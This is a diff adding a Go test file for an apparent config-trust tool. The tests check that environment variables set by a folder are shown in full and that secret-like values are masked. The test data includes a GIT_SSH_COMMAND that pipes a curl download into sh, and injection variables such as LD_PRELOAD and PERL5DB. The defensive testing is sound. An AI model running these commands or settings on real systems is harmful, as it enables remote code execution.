@@ -1,0 +1,76 @@
+package words_test
+
+import (
+	"strings"
+	"testing"
+
+	"authdeck/model"
+	"authdeck/ui/words"
+)
+
+func variable(name, value string) model.Power {
+	return model.Power{Kind: model.SetsVariable, Name: name, Value: model.SecretString(value), Folder: "/p", Origin: model.Origin{File: "/p/atmos.yaml", Line: 3, Column: 5}}
+}
+
+func TestWhatRunsIsShown(t *testing.T) {
+	t.Parallel()
+	for name, value := range map[string]string{
+		"GIT_SSH_COMMAND": "sh -c 'curl https://example.com/a1b2c3d4e5f6a7b8c9 | sh'", "NODE_OPTIONS": "--require ./x.js", "BASH_ENV": "./x.sh", "ENV": "./x.sh",
+		"LD_PRELOAD": "./x.so", "DYLD_INSERT_LIBRARIES": "./x.dylib", "PYTHONSTARTUP": "./x.py", "GIT_ASKPASS": "./ask", "SSH_ASKPASS": "./ask", "PROMPT_COMMAND": "date",
+		"PERL5OPT": "-Mevil", "RUBYOPT": "-revil", "JAVA_TOOL_OPTIONS": "-javaagent:x.jar", "MAKEFLAGS": "--eval=x", "GIT_EXTERNAL_DIFF": "./diff", "EDITOR": "./vi", "LESSOPEN": "|./x %s",
+		"RUSTC_WRAPPER": "./x", "PATH": "./bin:/usr/bin", "AWS_CONFIG_FILE": "./aws", "HTTPS_PROXY": "http://127.0.0.1:8080", "ATMOS_KEYRING_TYPE": "file", "ATMOS_KEYRING_FILE_PATH": "./.k",
+		"ATMOS_SHELL": "./x", "ATMOS_AUTH_REALM": "acme", "SSH_AUTH_SOCK": "./sock", "AWS_ENDPOINT_URL_S3": "http://127.0.0.1:4321", "PERL5DB": "system('x')", "GIT_SSH": "./ssh", "CVS_RSH": "./rsh",
+	} {
+		if got := words.Power(variable(name, value)); !strings.Contains(got, name+"="+value) {
+			t.Errorf("%s", got)
+		}
+	}
+}
+
+func TestWhatLooksLikeASecretIsHidden(t *testing.T) {
+	t.Parallel()
+	const canary = "CANARY7Q4X9ZK2M5"
+	for _, name := range []string{"ATMOS_KEYRING_PASSWORD", "DB_PASSWORD", "DBPASS", "GITHUB_TOKEN", "ACCESSTOKEN", "CLIENT_SECRET", "AWS_SECRET_ACCESS_KEY", "OPENAI_API_KEY", "APIKEY",
+		"GITHUB_PAT", "npm_config__auth", "SESSION_COOKIE", "GOOGLE_CREDENTIALS", "GPG_PASSPHRASE", "NAME", "FOO"} {
+		if got := words.Power(variable(name, canary)); strings.Contains(got, canary) || !strings.Contains(got, words.HiddenValue) {
+			t.Errorf("%s", got)
+		}
+	}
+	for _, value := range []string{"http://user:" + canary + "@127.0.0.1:1/x?token=" + canary, "git clone https://user:" + canary + "@example.com/x"} {
+		for _, p := range []model.Power{variable("HTTPS_PROXY", value), variable("GIT_SSH_COMMAND", value), {Kind: model.SetsEndpoint, Value: model.SecretString(value)}} {
+			if got := words.Power(p); strings.Contains(got, canary) {
+				t.Errorf("%s", got)
+			}
+		}
+	}
+}
+
+func TestPowersAreGroupedByFolder(t *testing.T) {
+	t.Parallel()
+	a, b, c := variable("A", "1"), variable("B", "2"), variable("C", "3")
+	b.Folder, b.Origin.File = "/q", "/q/sub/x.yaml"
+	groups := words.PowersByFolder([]model.Power{a, b, c})
+	if len(groups) != 2 || len(groups[0].Powers) != 2 || groups[1].Folder != "/q" || words.Trust([]model.Power{a, b}) != "Trust these 2 folders" || words.Trust([]model.Power{a, c}) != "Trust this folder" {
+		t.Errorf("%+v", groups)
+	}
+	outside := a
+	outside.Origin.File = "/etc/x.yaml"
+	for p, want := range map[*model.Power]string{&a: "atmos.yaml:3", &b: "sub/x.yaml:3", &outside: "/etc/x.yaml:3"} {
+		if got := words.PowerPlace(*p); got != want {
+			t.Errorf("%s, not %s", got, want)
+		}
+	}
+}
+
+func TestWhatIsNotUsedIsCounted(t *testing.T) {
+	t.Parallel()
+	trusted := variable("T", "t")
+	trusted.Trusted = true
+	c := model.Config{Powers: []model.Power{variable("A", "1"), trusted, variable("B", "2"), {Kind: model.RunsCommand, Folder: "/p"}}}
+	if got := words.Untrusted(c, "Press t to see them"); got != "Not trusted, so not used: 1 command, 2 variables. Press t to see them" {
+		t.Error(got)
+	}
+	if got := words.Untrusted(model.Config{Powers: []model.Power{trusted}}, "x"); got != "" {
+		t.Error(got)
+	}
+}
